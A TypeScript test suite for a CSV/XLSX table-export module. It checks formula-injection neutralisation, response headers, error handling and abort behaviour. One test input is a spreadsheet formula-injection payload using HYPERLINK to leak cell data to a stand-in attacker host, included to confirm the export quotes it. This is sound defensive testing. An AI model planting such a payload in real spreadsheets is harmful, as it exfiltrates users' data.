import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:http';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import express from 'express';
import fc from 'fast-check';
import type { StreamOutcome } from '../../http/json-array-stream';
import { neutraliseFormula, type ExportColumn, type ExportFormat } from '@vmdash/table-export';
import { tableExportResult, type TableExport } from './table-export';

type Row = { id: number; title: string };
const COLUMNS: ExportColumn<Row>[] = [
  { header: 'id', cell: (row) => row.id },
  { header: 'title', cell: (row) => row.title },
];
const FORMULA_START = /^[=+\-@\t\r]/;

let server: Server;
let baseUrl: string;
let table: TableExport<Row>;
let outcome: Promise<StreamOutcome>;

beforeAll(async () => {
  const app = express();
  app.get('/export', (_req, res) => {
    const result = tableExportResult(table);
    if (result.kind !== 'stream') throw new Error('not a stream');
    outcome = result.write(res);
    outcome.catch((error: Error) => res.status(503).json({ error: error.message }));
  });
  server = createServer(app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

function exportOf(format: ExportFormat, batches: Row[][], failAfter?: number): TableExport<Row> {
  return {
    format,
    baseName: 'findings',
    columns: COLUMNS,
    async *rows() {
      for (const [index, batch] of batches.entries()) {
        if (index === failAfter) throw new Error('upstream failed');
        yield batch;
      }
    },
  };
}

async function download(format: ExportFormat, batches: Row[][], failAfter?: number): Promise<Response> {
  table = exportOf(format, batches, failAfter);
  return fetch(`${baseUrl}/export`);
}

function csvRows(text: string): string[][] {
  return parse(text, { bom: true }) as string[][];
}

async function xlsxRows(body: ArrayBuffer): Promise<unknown[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(body) as unknown as Parameters<typeof workbook.xlsx.load>[0]);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

describe('neutraliseFormula', () => {
  it('when any text is neutralised, then it never begins with a formula character and only a quote was added', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const safe = neutraliseFormula(text);
        expect(safe).not.toMatch(FORMULA_START);
        expect(safe === text || safe === `'${text}`).toBe(true);
      }),
    );
  });

  it('when text begins with = + - @ tab or carriage return, then it gets a quote in front; other text is unchanged', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseFormula(text)).toBe(`'${text}`);
    expect(neutraliseFormula('Apache 2.4 < 2.4.58')).toBe('Apache 2.4 < 2.4.58');
  });
});

describe('tableExportResult', () => {
  it('when rows are exported as CSV, then the file parses back to the header and the rows, every cell inert, with a dated attachment name', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.array(fc.record({ id: fc.integer({ min: 1, max: 1e9 }), title: fc.string() }), { maxLength: 5 }), { maxLength: 4 }), async (batches) => {
        const response = await download('csv', batches);
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
        expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=findings-\d{4}-\d{2}-\d{2}\.csv$/);
        const rows = csvRows(await response.text());
        expect(rows).toEqual([['id', 'title'], ...batches.flat().map((row) => [String(row.id), neutraliseFormula(row.title)])]);
        for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
      }),
      { numRuns: 30 },
    );
  });

  it('when a title is =HYPERLINK(...), then the XLSX holds it as a quoted string cell, never a formula', async () => {
    const evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
    const response = await download('xlsx', [[{ id: 7, title: evil }], [{ id: 8, title: 'plain' }]]);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=findings-\d{4}-\d{2}-\d{2}\.xlsx$/);
    expect(await xlsxRows(await response.arrayBuffer())).toEqual([
      ['id', 'title'],
      [7, `'${evil}`],
      [8, 'plain'],
    ]);
  });

  it('when the upstream fails before the first batch, then the route answers a normal JSON error', async () => {
    const response = await download('csv', [[{ id: 1, title: 'a' }]], 0);
    expect(response.status).toBe(503);
    expect(await response.json()).toEqual({ error: 'upstream failed' });
  });

  it('when the upstream fails after the first bytes, then the transfer breaks instead of ending as a whole file', async () => {
    const big = Array.from({ length: 2000 }, (_, id) => ({ id: id + 1, title: 'x'.repeat(50) }));
    const response = await download('csv', [big, big], 1);
    expect(response.status).toBe(200);
    await expect(response.text()).rejects.toThrow();
    await expect(outcome).resolves.toMatchObject({ kind: 'failed-after-start', items: 2000 });
  });

  it('when the client leaves mid-export, then the rows stop being pulled', async () => {
    let pulled = 0;
    table = {
      format: 'csv',
      baseName: 'findings',
      columns: COLUMNS,
      async *rows() {
        for (;;) {
          pulled++;
          yield Array.from({ length: 1000 }, (_, id) => ({ id: id + 1, title: 'y'.repeat(200) }));
        }
      },
    };
    const controller = new AbortController();
    const response = await fetch(`${baseUrl}/export`, { signal: controller.signal });
    expect(response.status).toBe(200);
    controller.abort();
    await expect(outcome).resolves.toMatchObject({ kind: 'client-gone' });
    const after = pulled;
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(pulled).toBe(after);
  });
});
